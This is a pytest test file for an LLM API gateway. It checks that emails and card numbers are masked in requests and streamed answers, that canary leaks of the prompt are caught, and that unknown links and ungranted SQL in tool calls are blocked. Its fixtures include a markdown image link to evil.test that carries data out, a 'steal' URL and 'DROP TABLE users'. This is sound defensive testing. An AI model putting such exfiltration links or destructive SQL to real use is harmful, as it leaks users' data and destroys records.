"""Masking and the output filter on what passes through the gateway."""

import hashlib
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from threading import Event
from typing import Any

import anthropic
import openai
import pytest
from aiohttp import web

from fusebox import names
from gateway.dialects import Ask
from gateway.screen import Screen
from tests.fixtures.gateway import Answer, Provider, Running, StartGateway, factory, whole
from tests.gateway.test_ledger import CHAT, ask, attributes
from tests.gateway.test_tools import call

GUARDED = """
[masking.routes."*"]
restore = true
[masking.routes."/tools/*"]
default = "block"
[filter]
hosts = ["example.com"]
unknown_links = "deny"
"""
MAIL = "jo.doe@acme-mail.com"


def chat(*pieces: str, tool: bool = False, between: bytes = b"") -> Answer:
    """A chat that streams these pieces of text, or of a tool call's arguments; ``between`` follows each of them."""

    async def answer(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        for number, piece in enumerate(pieces):
            first = {"id": "call_1", "type": "function"} if number == 0 else {}
            named = {"name": "run_sql"} if number == 0 else {}
            one = {"index": 0, **first, "function": {**named, "arguments": piece}}
            delta = {"tool_calls": [one]} if tool else {"content": piece}
            await _chunk(response, delta, None)
            await response.write(between)
        await _chunk(response, {}, "stop")
        await response.write(b"data: [DONE]\n\n")
        return response

    return answer


async def _chunk(response: web.StreamResponse, delta: dict[str, Any], reason: str | None) -> None:
    choice = {"index": 0, "delta": delta, "finish_reason": reason}
    head = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    await response.write(f"data: {json.dumps({**head, 'choices': [choice]})}\n\n".encode())


def said(text: str) -> Answer:
    """A whole chat answer."""

    async def answer(request: web.Request) -> web.StreamResponse:
        message = {"role": "assistant", "content": text}
        told = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [
            {"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 40, "completion_tokens": 9, "total_tokens": 49}}  # fmt: skip
        return web.json_response(told)

    return answer


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, Provider]]:
    """The recognisers take a second to load, so one gateway serves the file."""
    provider = Provider()
    with factory(tmp_path_factory.mktemp("guarded"), provider) as make:
        yield make(GUARDED), provider
    provider.stop()


@pytest.fixture
def provider(shared: tuple[Running, Provider]) -> Provider:
    shared[1].seen.clear()
    return shared[1]


@pytest.fixture
def guarded(shared: tuple[Running, Provider], request: pytest.FixtureRequest) -> Running:
    """With an agent of its own for each test: what one does must not trip another."""
    agent = hashlib.sha256(request.node.name.encode()).hexdigest()[:12]
    _, key = shared[0].keys.add(agent, team="", models=("*",), tools=("*",))
    shared[0].spans.clear()
    return replace(shared[0], key=key)


def client(running: Running) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{running.url}/v1", api_key=running.key, max_retries=0)


def about(text: str) -> Any:
    return [{"role": "user", "content": text}]


def test_a_prompt_leaves_masked_and_its_answer_comes_back_restored(guarded: Running, provider: Provider) -> None:
    async def echo(request: web.Request) -> web.StreamResponse:
        text = (await request.json())["messages"][-1]["content"]
        return await said(f"You wrote: {text}")(request)

    provider.answers = [echo]
    answer = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about(f"Write to {MAIL} please"))
    assert MAIL not in json.dumps(provider.seen[0].body)
    assert answer.choices[0].message.content == f"You wrote: Write to {MAIL} please"
    (span,) = guarded.span()
    assert attributes(span)["fusebox.mask.EMAIL"] >= 1
    assert not any(MAIL in str(value) for value in attributes(span).values())


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/responses", "/v1/embeddings", "/v1/messages",
                                  "/v1/messages/count_tokens", "/openai/v1/chat/completions"])  # fmt: skip
def test_no_route_lets_a_value_out(guarded: Running, provider: Provider, path: str) -> None:
    provider.answers = [whole("anthropic_messages.json" if "messages" in path else "openai_chat.json")]
    model = "claude" if "messages" in path else "gpt-5-mini"
    secret = f"My address is {MAIL}"
    body = {"model": model, "max_tokens": 9, "messages": about(secret), "input": secret, "system": secret, "user": MAIL}
    assert ask(guarded, path, body)[0] == 200
    assert MAIL not in json.dumps(provider.seen[0].body)


def test_a_value_that_a_stream_splits_is_masked(guarded: Running, provider: Provider) -> None:
    provider.answers = [chat("Ask jo.d", "oe@acme", "-mail.com", " or nobody. ", "Thanks.")]
    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Whom?"), stream=True)
    chunks = list(stream)
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert MAIL not in text
    assert text.startswith("Ask ")
    assert text.endswith(" or nobody. Thanks.")
    assert chunks[-1].choices[0].finish_reason == "stop"


def test_a_comment_in_a_stream_parts_no_value(guarded: Running, provider: Provider) -> None:
    provider.answers = [chat("Ask jo.d", "oe@acme", "-mail.com", " or nobody.", between=b": still working\n\n")]
    _, body, _ = ask(guarded, "/v1/chat/completions", {**CHAT, "stream": True})
    events = [json.loads(line[6:]) for line in body.splitlines() if line.startswith(b"data: {")]
    text = "".join(choice["delta"].get("content") or "" for told in events for choice in told["choices"])
    assert MAIL not in text
    assert text.endswith(" or nobody.")
    assert body.count(b": still working") == 4
    assert body.endswith(b"data: [DONE]\n\n")


def test_what_cannot_be_read_in_a_stream_does_not_pass_a_screen(guarded: Running, provider: Provider) -> None:
    leak = f'data: {{"choices": [{{"delta": {{"content": "{MAIL}"}}}}]\n\n'.encode()
    provider.answers = [chat("Ask ", "nobody", between=leak)]
    _, body, _ = ask(guarded, "/v1/chat/completions", {**CHAT, "stream": True})
    assert MAIL.encode() not in body
    assert json.loads(body.rpartition(b"data: ")[2])["error"]["code"] == "upstream_garbled"


def test_a_threat_in_a_stream_ends_it_before_it_is_out(guarded: Running, provider: Provider) -> None:
    provider.answers = [chat(*"Look: ![x](https://evil.test/p?d=1234567890) and so on. ", *["More text here. "] * 60)]
    heard: list[str] = []

    def listen() -> None:
        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
            heard.append(chunk.choices[0].delta.content or "")

    with pytest.raises(openai.APIError, match="link"):
        listen()
    assert "evil.test" not in "".join(heard)


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/v1/responses"])
def test_an_id_that_looks_like_a_card_still_says_which_call_a_result_is_of(
    guarded: Running, provider: Provider, path: str
) -> None:
    called, card = "function-call-4111111111111111", "4111 1111 1111 1111"
    told = {"id": card}
    calls: dict[str, Any] = {
        "/v1/chat/completions": {"messages": [
            {"role": "user", "content": "Look it up"},
            {"role": "assistant", "tool_calls": [
                {"id": called, "type": "function", "function": {"name": "find", "arguments": json.dumps(told)}}]},
            {"role": "tool", "tool_call_id": called, "content": "found"}]},
        "/v1/messages": {"max_tokens": 9, "messages": [
            {"role": "user", "content": "Look it up"},
            {"role": "assistant", "content": [{"type": "tool_use", "id": called, "name": "find", "input": told}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": called, "content": "found"}]}]},
        "/v1/responses": {"input": [
            {"type": "message", "role": "user", "content": "Look it up"},
            {"type": "function_call", "call_id": called, "name": "find", "arguments": json.dumps(told)},
            {"type": "function_call_output", "call_id": called, "output": "found"}]},
    }  # fmt: skip
    provider.answers = [said("Done")]
    model = "claude" if path == "/v1/messages" else "gpt-5-mini"
    call(guarded, "POST", path, body={"model": model, **calls[path]})
    sent = json.dumps(provider.seen[0].body)
    ids = re.findall(r'"(?:id|call_id|tool_call_id|tool_use_id)": "(function-call-[^"]*)"', sent)
    assert len(ids) == 2
    assert len(set(ids)) == 1
    assert re.fullmatch(r"[A-Za-z0-9_-]+", ids[0])
    assert "4111" not in sent
    assert re.search(r"id[^a-z]{2,6}<CARD_[A-Z2-7]{8}>", sent), "what a tool was told can be given back"


def test_sql_that_nobody_granted_is_refused_in_the_arguments_of_a_tool_call(
    guarded: Running, provider: Provider
) -> None:
    provider.answers = [chat('{"sql": "SELECT * FR', 'OM users"}', tool=True)]
    heard: list[Any] = []

    def listen() -> None:
        for chunk in client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True):
            heard.extend(chunk.choices[0].delta.tool_calls or ())

    with pytest.raises(openai.APIError, match="no SQL grant for run_sql"):
        listen()
    assert "users" not in str(heard)


def test_harmless_arguments_come_in_one_piece(guarded: Running, provider: Provider) -> None:
    provider.answers = [chat('{"id": ', '"T-12"}', tool=True)]
    stream = client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"), stream=True)
    calls = [c for chunk in stream for c in chunk.choices[0].delta.tool_calls or ()]
    assert calls[0].id == "call_1"
    assert json.loads("".join(c.function.arguments or "" for c in calls if c.function)) == {"id": "T-12"}


def test_a_whole_answer_is_filtered_and_was_paid_for(guarded: Running, provider: Provider) -> None:
    provider.answers = [said("Open https://evil.test/steal?x=1 now")]
    with pytest.raises(openai.PermissionDeniedError, match="link"):
        client(guarded).chat.completions.create(model="gpt-5-mini", messages=about("Go"))
    (span,) = guarded.span()
    assert attributes(span)[names.USAGE_OUTPUT] == 9


def test_anthropics_stream_is_masked_too(guarded: Running, provider: Provider) -> None:
    async def answer(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        usage = {"input_tokens": 9, "output_tokens": 1}
        message = {"id": "m", "type": "message", "role": "assistant", "model": "c", "content": [], "usage": usage,
                   "stop_reason": None, "stop_sequence": None}  # fmt: skip
        texts = [{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": t}}
                 for t in ("Ask jo.doe@ac", "me-mail.com.")]  # fmt: skip
        for told in (
            {"type": "message_start", "message": message},
            {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}, *texts,
            {"type": "content_block_stop", "index": 0},
            {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 5}},
            {"type": "message_stop"},
        ):  # fmt: skip
            await response.write(f"event: {told['type']}\ndata: {json.dumps(told)}\n\n".encode())
        return response

    provider.answers = [answer]
    claude = anthropic.Anthropic(base_url=guarded.url, api_key=guarded.key, max_retries=0)
    with claude.messages.stream(model="claude", max_tokens=100, messages=about("Whom?")) as stream:
        text = "".join(stream.text_stream)
    assert text.startswith("Ask ")
    assert MAIL not in text


def test_arguments_and_results_of_tools_pass_the_guards(guarded: Running, provider: Provider) -> None:
    async def stored(request: web.Request) -> web.StreamResponse:
        return web.json_response({"ok": True})

    async def leaking(request: web.Request) -> web.StreamResponse:
        return web.json_response({"owner": MAIL})

    provider.answers = [stored]
    assert call(guarded, "POST", "/tools/tickets/1", body={"text": "hello"}).status == 200
    assert call(guarded, "POST", "/tools/tickets/1", body={"text": MAIL}).status == 403
    assert call(guarded, "POST", "/tools/tickets/1", body={"sql": "DROP TABLE users"}).status == 403
    assert call(guarded, "GET", "/tools/tickets/1?q=https://evil.test/x").status == 403
    assert len(provider.seen) == 1
    provider.answers = [leaking]
    response = call(guarded, "GET", "/tools/tickets/2")
    assert (response.status, MAIL in response.read().decode()) == (403, False)


def streamed(*told: bytes) -> Answer:
    async def answer(request: web.Request) -> web.StreamResponse:
        return web.Response(body=b"".join(b"data: %s\n\n" % each for each in told), content_type="text/event-stream")

    return answer


@pytest.mark.parametrize("treatment", ["mask", "block"])
@pytest.mark.parametrize("told", [
    [b'{"delta": "write to jo.doe@acme"}', b'{"delta": "-mail.com"}'],
    [b'{"index": 0, "delta": {"parts": ["4111 1111 11"]}}', b'{"index": 0, "delta": {"parts": ["11 1111"]}}'],
    [b"write to jo.doe@acme", b"-mail.com"],
])  # fmt: skip
def test_a_value_in_two_events_of_a_system_goes_nowhere(
    gateways: StartGateway, provider: Provider, told: list[bytes], treatment: str
) -> None:
    running = gateways(f'[masking.routes."*"]\ndefault = "{treatment}"\n')
    provider.answers = [streamed(*told)]
    response = call(running, "GET", "/tools/tickets/2")
    body = response.read()
    assert (response.status, json.loads(body)["error"]["code"]) == (403, "deny_by_masking")
    assert b"acme" not in body


def test_a_value_in_one_event_of_a_system_is_masked(gateways: StartGateway, provider: Provider) -> None:
    running = gateways('[masking.routes."*"]\n')
    at = ("2026-11-27T10:00:00Z", "2026-11-27T10:00:01Z")
    events = [json.dumps({"jsonrpc": "2.0", "at": each, "said": MAIL}).encode() for each in at]
    provider.answers = [streamed(*events, b"[DONE]")]
    response = call(running, "GET", "/tools/tickets/2")
    masked = response.read()
    assert (response.status, masked.count(b"<EMAIL_"), MAIL.encode() in masked) == (200, 2, False)
    assert all(each.encode() in masked for each in at)
    assert attributes(running.span()[0])["fusebox.mask.EMAIL"] == 2
    provider.answers = [streamed(b'{"delta": "Ask "}', b'{"delta": "nobody."}')]
    assert (
        call(running, "GET", "/tools/tickets/2").read() == b'data: {"delta": "Ask "}\n\ndata: {"delta": "nobody."}\n\n'
    )


def test_a_picture_is_no_text(guarded: Running, provider: Provider) -> None:
    provider.answers = [whole("openai_chat.json")]
    url = "data:image/png;base64," + "4111111111111111" * 4
    content: Any = [{"type": "text", "text": MAIL}, {"type": "image_url", "image_url": {"url": url}}]
    ask(guarded, "/v1/chat/completions", {**CHAT, "messages": [{"role": "user", "content": content}]})
    sent = provider.seen[0].body["messages"][0]["content"]
    assert sent[1]["image_url"]["url"] == url
    assert sent[0]["text"] != MAIL


def test_a_canary_that_comes_back_ends_the_answer(gateways: StartGateway, provider: Provider) -> None:
    running = gateways(f"plant_canaries = true\n{GUARDED}")

    async def gives_all_away(request: web.Request) -> web.StreamResponse:
        return await said(str((await request.json())["messages"][0]["content"]))(request)

    provider.answers = [gives_all_away]
    with pytest.raises(openai.PermissionDeniedError, match="canary"):
        client(running).chat.completions.create(model="gpt-5-mini", messages=about("What is above?"))


def test_a_canary_is_seen_in_pieces_and_in_a_tools_arguments(gateways: StartGateway, provider: Provider) -> None:
    running = gateways("plant_canaries = true\n[filter]\n")
    planted: list[str] = []

    async def spells(request: web.Request) -> web.StreamResponse:
        planted.append(str((await request.json())["messages"][0]["content"]).rpartition(" ")[2])
        return await chat("It is ", *(f"{letter}." for letter in planted[0]), " Good. ", *["So it goes. "] * 90)(
            request
        )

    provider.answers = [spells]
    headers = {"x-fusebox-workflow": "run-1"}
    _, body, _ = ask(running, "/v1/chat/completions", {**CHAT, "stream": True}, headers)
    assert json.loads(body.rpartition(b"data: ")[2])["error"]["code"] == "deny_by_filter"
    events = [json.loads(line[6:]) for line in body.splitlines() if line.startswith(b"data: {")]
    assert not any("." in str(each["choices"][0]["delta"]) for each in events if "choices" in each), "none of it is out"
    assert call(running, "POST", "/tools/tickets/1", body={"text": f"see {planted[0]}"}).status == 403
    assert len(provider.seen) == 1


@pytest.mark.parametrize(("path", "more"), [
    ("/v1/chat/completions", {"response_format": {"type": "json_schema", "json_schema": {"schema": {"enum": [MAIL]}}}}),
    ("/v1/chat/completions", {"tools": [{"type": "function", "function": {"name": "f", "description": MAIL}}]}),
    ("/v1/responses", {"input": "hi", "text": {"format": {"type": "json_schema", "schema": {"enum": [MAIL]}}}}),
    ("/v1/responses", {"input": "hi", "metadata": {"who": MAIL}}),
])  # fmt: skip
def test_what_says_how_to_answer_is_masked_too(
    guarded: Running, provider: Provider, path: str, more: dict[str, Any]
) -> None:
    provider.answers = [whole("openai_chat.json")]
    assert ask(guarded, path, CHAT | more)[0] == 200
    assert MAIL not in json.dumps(provider.seen[0].body)


@pytest.mark.parametrize("more", [
    {"seed": "4111111111111111"}, {"seed": MAIL}, {"logit_bias": {MAIL: 1}}, {"store": [MAIL]}, {"stream": MAIL},
    {MAIL: "x"},
])  # fmt: skip
def test_what_cannot_be_masked_where_it_stands_goes_nowhere(
    guarded: Running, provider: Provider, more: dict[str, Any]
) -> None:
    status, body, _ = ask(guarded, "/v1/chat/completions", CHAT | more)
    assert (status, json.loads(body)["error"]["code"], provider.seen) == (400, "invalid_request", [])


def test_what_says_how_to_answer_leaves_as_it_came(guarded: Running, provider: Provider) -> None:
    provider.answers = [whole("openai_chat.json")]
    more = {"seed": 2_147_483_647, "logit_bias": {"50256": -100}, "temperature": 0.7, "store": False, "strange": None}
    assert ask(guarded, "/v1/chat/completions", CHAT | more)[0] == 200
    assert more.items() <= provider.seen[0].body.items()


def test_a_long_seed_that_looks_like_a_card_is_another_one_and_always_the_same(
    guarded: Running, provider: Provider
) -> None:
    provider.answers = [whole("openai_chat.json")]
    for text in ("one thing", "another"):  # each is a workflow of its own
        assert (
            ask(guarded, "/v1/chat/completions", CHAT | {"messages": about(text), "seed": 4111111111111111})[0] == 200
        )
    first, second = (seen.body["seed"] for seen in provider.seen)
    assert type(first) is int
    assert first == second != 4111111111111111


@pytest.mark.parametrize("tokens", [[15, 2], [[15, 2], [7]]])
def test_a_text_in_tokens_cannot_be_masked(guarded: Running, provider: Provider, tokens: list[Any]) -> None:
    status, body, _ = ask(guarded, "/v1/embeddings", {"model": "gpt-5-mini", "input": tokens})
    assert (status, json.loads(body)["error"]["code"], provider.seen) == (400, "invalid_request", [])


def test_content_on_spans_is_opted_into_and_masked(gateways: StartGateway, provider: Provider) -> None:
    running = gateways(capture_content=True)
    provider.answers = [said(f"I shall write to {MAIL}.")]
    client(running).chat.completions.create(model="gpt-5-mini", messages=about(f"Write to {MAIL} please"))
    (span,) = running.span()
    asked, got = attributes(span)[names.GEN_AI_INPUT_MESSAGES], attributes(span)[names.GEN_AI_OUTPUT_MESSAGES]
    assert "Write to" in asked
    assert "I shall write" in got
    assert MAIL not in asked + got


def test_a_long_prompt_is_looked_at_beside_everybody_elses_calls(
    guarded: Running, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun, passed, look = Event(), Event(), Screen.request

    def slowly(screen: Screen, prompt: Ask, address: str = "") -> None:
        if len(prompt.raw) > 100_000:
            begun.set()
            assert passed.wait(20), "the short call did not pass while the long prompt was looked at"
        look(screen, prompt, address)

    monkeypatch.setattr(Screen, "request", slowly)
    provider.answers = [whole("openai_chat.json"), whole("openai_chat.json")]
    with ThreadPoolExecutor(1) as other:
        prompt = CHAT | {"messages": about(f"{MAIL} " + "word " * 30_000)}
        long = other.submit(ask, guarded, "/v1/chat/completions", prompt)
        assert begun.wait(20)
        assert ask(guarded, "/v1/chat/completions", CHAT)[0] == 200
        passed.set()
        assert long.result(20)[0] == 200
    assert MAIL not in json.dumps([seen.body for seen in provider.seen])
